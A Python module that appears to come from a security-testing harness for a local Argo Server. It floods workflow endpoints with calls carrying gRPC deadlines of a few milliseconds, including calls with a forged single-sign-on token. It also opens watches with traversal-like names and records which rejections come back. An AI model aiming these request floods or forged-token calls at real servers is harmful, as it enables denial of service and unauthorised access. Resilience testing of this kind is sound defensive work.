"""Time that callers choose, and names that lead nowhere: neither tells anything of the Argo Server's health."""

import http.client
import threading
from collections import Counter

from ..attack import Attack, Probe, Target, reason
from ..http2 import ATTACKER, until


def short_deadlines(target: Target, seconds: float) -> str:
    """80 calls at a time that end after 2 to 12 milliseconds."""
    times = ["2m", "4m", "6m", "8m", "10m", "12m", "900u", "1u"]
    return _calls(target, seconds, target.known, lambda number: (f"/api/v1/workflows/{target.namespace}", {"grpc-timeout": times[number % 8]}))


def short_deadlines_of_anybody(target: Target, seconds: float) -> str:
    """The same in mode direct with a single sign-on token that anybody can write."""
    return _calls(target, seconds, "v2:made-up", lambda number: (f"/argo/direct/api/v1/workflows/{target.namespace}", {"grpc-timeout": f"{2 + number % 10}m"}))


def nameless_watches(target: Target, seconds: float) -> str:
    """Watches of one workflow whose name is empty, or none."""
    names = ["", "..", "a/b", "%2e%2e"]
    return _calls(
        target,
        seconds,
        target.known,
        lambda number: (f"/api/v1/workflow-events/{target.namespace}?listOptions.fieldSelector=metadata.name%3D{names[number % 4].replace('/', '%2F')}", {}),
        stream=True,
    )


def _calls(target: Target, seconds: float, token: str, request, stream: bool = False) -> str:
    answers: Counter = Counter()

    def one(worker: int) -> None:
        for number, _ in enumerate(until(seconds)):
            connection = http.client.HTTPConnection("127.0.0.1", target.port, timeout=5, source_address=(ATTACKER, 0))
            path, headers = request(worker + number)
            try:
                connection.request("GET", path, headers=headers | {"authorization": f"Bearer {token}"})
                answer = connection.getresponse()
                if answer.status < 400 and stream:
                    answers[answer.status] += 1
                else:
                    text = answer.read()
                    answers[reason(answer.status, text) if answer.status >= 400 else answer.status] += 1
            except (OSError, http.client.HTTPException) as e:
                answers[type(e).__name__] += 1
            finally:
                connection.close()

    threads = [threading.Thread(target=one, args=(worker,)) for worker in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return str(dict(answers))


def _short(target: Target) -> Probe:
    headers = {"authorization": f"Bearer {target.known}", "grpc-timeout": "1u"}
    return Probe("GET", f"/api/v1/workflows/{target.namespace}", headers, frozenset({"DEADLINE_EXCEEDED", "TOO_MANY_CALLS"}))


def _nameless(target: Target) -> Probe:
    path = f"/api/v1/workflow-events/{target.namespace}?listOptions.fieldSelector=metadata.name%3Da%2Fb"
    return Probe("GET", path, {"authorization": f"Bearer {target.known}"}, frozenset({"REQUEST_INVALID", "TOO_MANY_CALLS"}))


ATTACKS = [
    Attack("calls with deadlines of milliseconds", "a data scientist's token", short_deadlines, _short),
    Attack("deadlines of milliseconds in mode direct", "nothing", short_deadlines_of_anybody),
    Attack("watches without a name", "a data scientist's token", nameless_watches, _nameless),
]
